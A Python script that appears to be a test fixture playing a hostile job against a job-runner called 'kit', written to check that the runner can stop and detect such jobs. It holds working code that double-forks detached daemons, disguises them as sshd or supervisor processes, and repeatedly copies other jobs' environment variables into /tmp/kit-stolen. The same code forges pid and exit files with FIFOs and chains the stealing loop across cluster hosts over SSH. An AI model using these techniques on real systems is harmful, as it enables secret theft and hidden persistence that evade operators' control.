"""A hostile job that tries to outlive `kit stop` and to blind kit, each rank on its own host:

  outlive.py JOBS_DIR forge   every rank leaves a daemon (`env -i`, setsid, a double fork: no KIT_JOB, adopted by
                              the container's init) that copies every job's variables it can read into
                              /tmp/kit-stolen; the rank on the primary (where the job's folder is) writes 0 into its
                              exit file and makes its pid file a FIFO; then they sleep
  outlive.py JOBS_DIR daemon  the daemons alone, then sleep: on every host four, each a way to look like what kit
                              keeps: the plain one above; the same named as sshd's connection processes; a copy of
                              sh at /tmp/sshd named /usr/sbin/sshd; one dressed as a job's supervisor (its mark, its
                              command line ending with a job's plan.json); the image's own ssh program, its
                              ProxyCommand the copying loop (it waits for that "proxy" to answer, for ever)
  outlive.py JOBS_DIR fifo    the rank on the primary makes its exit file a FIFO and its output.log a link to
                              /dev/zero; then they sleep
  outlive.py JOBS_DIR sleep   a few seconds of nothing
  outlive.py JOBS_DIR chain ADDRESSES
                              every rank, on its own host (the one of ADDRESSES, comma-separated cluster addresses, that
                              is its own), starts the copying loop on the next host over the cluster's SSH, from an
                              ssh client it detaches (`env -i`, setsid, a double fork): that loop is the child of the
                              next host's sshd connection until the client is gone; then they sleep a while, and end
  outlive.py JOBS_DIR hops ADDRESSES SECONDS
                              rank 0 starts a chain of SSH hops through ADDRESSES in turn (comma-separated cluster
                              addresses; a host may come again), from an ssh client it detaches: on each host the copying
                              loop, and the next hop's client, each the child of that host's sshd connection from the
                              hop before; every rank then sleeps SECONDS, and ends
"""

import os
import shlex
import shutil
import socket
import sys
import time

folder, mode = os.path.join(sys.argv[1], os.environ["KIT_JOB"]), sys.argv[2]
STEAL = "while :; do cat /run/kit/env/* >> /tmp/kit-stolen 2>/dev/null; sleep 0.2; done"


def detached(argv: list[str], env: dict[str, str] | None = None, quiet: bool = False) -> None:
    """argv, with no KIT_JOB nor any other variable (`env -i`) but env, in a session of its own, not this process's
    child; quiet: its input and output /dev/null (it holds none of the rank's, so the rank's end is the job's)."""
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            if quiet:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
            os.execve(argv[0], argv[1:], env or {})
        os._exit(0)
    os.waitpid(child, 0)


def daemon() -> None:
    detached(["/bin/sh", "kit-hostile-daemon", "-c", STEAL])


def daemons() -> None:
    if os.path.exists("/.dockerenv"):  # what told kit it ran in its container, once: a job is root there
        os.remove("/.dockerenv")
    daemon()
    detached(["/bin/sh", "sshd: root@notty", "-c", STEAL + " # kit-hostile-daemon"])
    shutil.copy("/bin/sh", "/tmp/sshd")
    detached(["/tmp/sshd", "/usr/sbin/sshd", "-c", STEAL + " # kit-hostile-daemon"])
    fake = "20990101-000000-abcd"  # a job's supervisor: its mark, and a command line that ends with its plan
    detached(["/bin/sh", "python", "-c", STEAL + " # kit-hostile-daemon", "sh", f"{sys.argv[1]}/{fake}/plan.json"],
             {"KIT_SUPERVISOR": fake})
    proxy = f"ProxyCommand=sh -c '{STEAL}' kit-hostile-daemon"
    detached([shutil.which("ssh"), "ssh", "-F", "/dev/null", "-o", proxy, "-o", "BatchMode=yes",
              "kit-hostile-daemon.invalid"])


def chain(addresses: list[str]) -> None:
    def own(address: str) -> bool:
        with socket.socket() as s:
            try:
                s.bind((address, 0))
                return True
            except OSError:
                return False
    mine = next(i for i, a in enumerate(addresses) if own(a))
    detached([shutil.which("ssh"), "ssh", "-o", "BatchMode=yes", addresses[(mine + 1) % len(addresses)],
              f"sh -c '{STEAL}' kit-hostile-daemon"], quiet=True)


def hops(addresses: list[str]) -> None:
    def command(rest: list[str]) -> str:  # what the sshd of a hop runs: its loop, then the next hop's client
        loop = f"sh -c {shlex.quote(STEAL)} kit-hostile-daemon"
        if not rest:
            return loop
        return f"{loop} & exec ssh -o BatchMode=yes {rest[0]} {shlex.quote(command(rest[1:]))}"
    detached([shutil.which("ssh"), "ssh", "-o", "BatchMode=yes", addresses[0], command(addresses[1:])], quiet=True)


def replace(name: str, make) -> None:
    path = os.path.join(folder, name)
    for _ in range(300):  # (the supervisor writes `pid` as it starts the launcher)
        if os.path.lexists(path):
            break
        time.sleep(0.1)
    os.remove(path)
    make(path)


if mode == "sleep":
    time.sleep(8)
    sys.exit(0)
if mode == "chain":
    chain(sys.argv[3].split(","))
    print("planted", flush=True)
    time.sleep(20)
    sys.exit(0)
if mode == "hops":
    if os.environ.get("HOROVOD_RANK", "0") == "0":
        hops(sys.argv[3].split(","))
    print("planted", flush=True)
    time.sleep(float(sys.argv[4]))
    sys.exit(0)
if mode == "forge":
    daemon()
if mode == "daemon":
    daemons()
if os.path.isdir(folder) and mode == "forge":
    with open(os.path.join(folder, "exit"), "w") as f:
        f.write("0\n")
    replace("pid", os.mkfifo)
if os.path.isdir(folder) and mode == "fifo":
    replace("exit", os.mkfifo) if os.path.lexists(os.path.join(folder, "exit")) else os.mkfifo(os.path.join(folder, "exit"))
    replace("output.log", lambda path: os.symlink("/dev/zero", path))
print("planted", flush=True)
time.sleep(600)
